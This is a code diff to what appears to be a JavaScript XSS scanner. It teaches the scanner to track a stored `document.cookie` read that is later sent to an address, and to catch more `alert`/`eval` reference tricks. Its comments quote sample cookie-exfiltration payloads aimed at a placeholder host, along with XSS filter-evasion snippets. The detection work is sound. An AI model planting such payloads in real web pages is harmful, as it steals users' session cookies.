@@ -162,6 +162,11 @@ function judgeCall(c: Callee, tokens: Token[], match: Int32Array, at: number, al
 /** Tokens read back from a cookie read for the call or assignment it sits in (a statement's worth). */
 const EXFIL_REACH = 32;
 
+/** Tokens after a cookie read kept in a name that are searched for its use. */
+const HELD_REACH = 256;
+/** The token lists of scans whose held cookie was followed already (see sendsHeldCookie). */
+const heldSearched = new WeakSet<Token[]>();
+
 /** An address: a string that starts a path (`/log?c=`) or holds `//` (`//e.example/?c=`, `https://...`). */
 const isAddress = (text: string) => text.startsWith("/") || text.includes("//");
 const isAddressLiteral = (t: Token | undefined) => t !== undefined && (t.type === "string" || t.type === "template") && t.value !== null && isAddress(t.value);
@@ -191,27 +196,51 @@ function sendsCookie(tokens: Token[], match: Int32Array, first: number, last: nu
 }
 
 /**
+ * `c=document.cookie;new Image().src='//e/?'+c`: the read kept in a name (the read starts at `first`,
+ * right after `c =`) that a later statement sends as sendsCookie sees a read sent, or puts in an
+ * address's template (`fetch(\`//e/?c=${c}\`)`). Only a plain name assigned is followed, not a
+ * member's (`o.c = document.cookie` is stored where no later use can be told apart).
+ */
+function sendsHeldCookie(text: string, tokens: Token[], match: Int32Array, first: number): boolean {
+  const name = tokens[first - 2];
+  if (!isPunct(tokens[first - 1], "=") || name?.type !== "name" || isPunct(tokens[first - 3], ".")) return false;
+  // One name followed per scan: a value of many reads, each followed, would be quadratic.
+  if (heldSearched.has(tokens)) return false;
+  heldSearched.add(tokens);
+  const substitution = new RegExp(String.raw`\$\{\s*${name.value!.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}\s*\}`);
+  for (let k = first + 3; k < Math.min(tokens.length, first + HELD_REACH); k++) {
+    const t = tokens[k]!;
+    if (t.type === "name" && t.value === name.value && !isPunct(tokens[k - 1], ".") && !isPunct(tokens[k + 1], "=") && sendsCookie(tokens, match, k, k)) return true;
+    if (t.type === "template" && t.value === null) {
+      const body = text.slice(t.start + 1, t.end);
+      if (substitution.test(body) && isAddress(body.slice(0, body.indexOf("${")))) return true;
+    }
+  }
+  return false;
+}
+
+/**
  * Member reads and writes that are not calls: `document.cookie`, `location.href = ...`, `x['\x61lert']`.
  * `inAddress`: the tokens are a template's substitution whose text before it reads as an address.
  */
-function judgeMember(tokens: Token[], match: Int32Array, i: number, inAddress: boolean): Judged | null {
+function judgeMember(text: string, tokens: Token[], match: Int32Array, i: number, inAddress: boolean): Judged | null {
   const t = tokens[i]!;
   const next = tokens[i + 1];
   const assigned = isPunct(next, "=") || isPunct(next, "+=");
   if (t.type === "name") {
     const prev2 = isPunct(tokens[i - 1], ".") ? tokens[i - 2] : undefined;
     if (prev2?.value === "document" && DOCUMENT_SINKS.has(t.value ?? "")) {
-      if (t.value === "cookie" && !assigned && (inAddress || sendsCookie(tokens, match, i - 2, i))) return { construct: "cookie-exfiltration", kind: "exec", base: 0.7 };
+      if (t.value === "cookie" && !assigned && (inAddress || sendsCookie(tokens, match, i - 2, i) || sendsHeldCookie(text, tokens, match, i - 2))) return { construct: "cookie-exfiltration", kind: "exec", base: 0.7 };
       return { construct: "document-sink", kind: "sink", base: assigned ? 0.55 : 0.45 };
     }
     if (assigned && ASSIGN_SINKS.has(t.value ?? "") && (prev2 !== undefined || t.value === "location")) return { construct: "assign-sink", kind: "sink", base: 0.4 };
-    // A dialog or eval passed as a value: `[1].map(alert)`, `onerror=alert;throw 1`.
+    // A dialog or eval passed as a value: `[1].map(alert)`, `onerror=alert;throw 1`, `{onerror=alert}throw 1`.
     const name = t.value ?? "";
     if ((DIALOG_CALLS.has(name) || name === "eval") && !isPunct(tokens[i - 1], ".") && (isPunct(tokens[i - 1], "(") || isPunct(tokens[i - 1], ",") || isPunct(tokens[i - 1], "="))) {
       // Aliased (`a=eval;a(...)`) it is as good as a call.
       // Handed to a method (`[1].find(alert)`, `p.then(eval)`) it is called by it: more than a word in parentheses.
       const toMethod = isPunct(tokens[i - 1], "(") && tokens[i - 2]?.type === "name" && isPunct(tokens[i - 3], ".");
-      if (isPunct(next, ")") || isPunct(next, ",") || isPunct(next, ";") || next === undefined) return { construct: "function-reference", kind: "weak", base: isPunct(tokens[i - 1], "=") ? 0.5 : toMethod ? 0.55 : 0.4 };
+      if (isPunct(next, ")") || isPunct(next, ",") || isPunct(next, ";") || (isPunct(next, "}") && isPunct(tokens[i - 1], "=")) || next === undefined) return { construct: "function-reference", kind: "weak", base: isPunct(tokens[i - 1], "=") ? 0.5 : toMethod ? 0.55 : 0.4 };
     }
     return null;
   }
@@ -299,7 +328,7 @@ function scanTokens(text: string, start: number, end: number, context: JsContext
         last = t.type === "template" ? i : match[i]! > i ? match[i]! : i;
       }
     } else {
-      judged = judgeMember(tokens, match, i, inAddress);
+      judged = judgeMember(text, tokens, match, i, inAddress);
       if (judged && isPunct(t, "]")) first = Math.max(0, match[i]! - 1);
       else if (judged && judged.construct !== "function-reference") first = Math.max(0, i - 2);
       if (judged?.construct === "function-reference") noteAlias(tokens, i, aliases);
